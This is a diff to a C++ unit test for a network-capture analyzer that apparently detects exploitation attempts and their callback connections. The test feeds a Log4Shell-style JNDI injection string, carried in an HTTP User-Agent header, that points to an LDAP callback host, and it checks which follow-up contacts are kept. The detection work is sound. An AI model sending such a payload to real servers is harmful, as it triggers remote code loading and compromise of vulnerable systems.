@@ -251,7 +251,7 @@ TEST(CaptureAnalyzer, NoIncidentForAnotherPortOrAContactBeforeTheAttempt) {
   EXPECT_TRUE(r.incidents.empty());
 }
 
-TEST(CaptureAnalyzer, ContextEventsAreKeptOnlyNearAnAttempt) {
+TEST(CaptureAnalyzer, ContextEventsAreKeptOnlyTowardsANamedCallback) {
   Feeder feed;
   for (uint16_t i = 0; i < 500; ++i) {  // clean traffic: nothing to keep
     Conn c{"10.0.0.10", static_cast<uint16_t>(20000 + i), "192.0.2.80", 443};
@@ -263,10 +263,12 @@ TEST(CaptureAnalyzer, ContextEventsAreKeptOnlyNearAnAttempt) {
   feed(in.C("GET / HTTP/1.1\r\nUser-Agent: ${jndi:ldap://198.51.100.66:1389/x}\r\n\r\n"), 0.5);
   Conn after{"10.0.0.10", 43001, "192.0.2.81", 443};
   feed(after.Syn(), 30);
+  Conn again{"10.0.0.11", 43002, "198.51.100.66", 443};  // another host, same callback address, other port
+  feed(again.Syn(), 30);
   CaptureResult r = feed.analyzer.Finish();
   size_t context = 0;
   for (const NetEvent& e : r.events) context += IsContextEvent(e.kind);
-  EXPECT_EQ(context, 3u) << "the connection within the slack before the attempt, the attempt's own, one after";
+  EXPECT_EQ(context, 2u) << "only contacts with the named callback's address are kept";
   // A contact 0.5 s before the attempt (clock skew between taps) still makes the incident.
   ASSERT_EQ(r.incidents.size(), 1u);
   EXPECT_EQ(r.events[r.incidents[0].event].flow.src_port, 43000);
